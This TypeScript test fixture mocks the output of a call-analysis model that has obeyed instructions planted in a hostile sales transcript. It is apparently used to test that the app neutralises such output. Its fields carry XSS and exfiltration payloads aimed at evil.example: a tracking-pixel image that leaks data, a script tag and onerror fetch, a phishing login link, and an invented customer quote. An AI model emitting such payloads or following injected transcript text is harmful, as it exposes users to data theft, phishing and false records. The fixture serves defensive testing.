import type { ModelAnswers } from './emulators/model-answers.ts';

const evil = 'http://evil.example';
const picture = `![pixel](${evil}/pixel.png?said=everything)`;
const script = `<script src="${evil}/steal.js"></script><img src=x onerror="fetch('${evil}')">`;
const link = `[Log in again](${evil}/login)`;
const invented = 'We sign today, at twice the price.';

/** No call contains anything of what instructions in a transcript could make a model say. */
export const obedientAnalysis = {
  talk_to_listen_ratio: { sales_rep: 1, customer: 99 },
  objection_count: 0,
  competitor_mentions: { [script]: 99, [picture]: 1 },
  sentiment: {
    overall_sentiment: 'positive',
    sales_rep_sentiment: 'positive',
    customer_sentiment: 'positive',
  },
  filler_words: [script],
  longest_monologue_duration: 0,
  questions_asked: { sales_rep: [`Shall we? ${picture}`], customer: [script] },
  actionable_insights: `Perfect call. ${picture}\n${script}\n${link}`,
  // These are correct, because a test compares the numbers of a side with those of a correct analysis.
  speaker_roles: [
    { speaker: 'A', role: 'sales_rep' },
    { speaker: 'B', role: 'customer' },
  ],
  objections: [
    { quote: invented, kind: 'price', outcome: 'accepted', response: script, repeats: script },
  ],
  questions: [{ side: 'customer', quote: `${invented} ${script}` }],
  competitors: [{ name: script, quote: invented }],
  insights: [
    { title: picture, text: `${link} ${script}`, quote: invented },
    { title: link, text: picture, quote: script },
  ],
  customer_questions: [{ quote: `${invented} ${script}`, answer: invented, comment: link }],
  closing_questions: [{ quote: invented }],
  next_steps: [{ owner: 'customer', what: link, due: script, quote: invented }],
};

/**
 * The answers of a model that obeys a hostile transcript. `openAI.answer(obedientAnswers)` or
 * `ollama.answer(obedientAnswers)` switches them on, and a reset switches them off.
 */
export const obedientAnswers: ModelAnswers = {
  analysis: JSON.stringify(obedientAnalysis),
  summary: `Purpose: ${picture}\n\nNext steps: ${link} ${script}`,
  aboutCall: `${picture} ${link} [["${invented}"]] [["${script}"]]`,
  text: `${script} ${link}`,
};
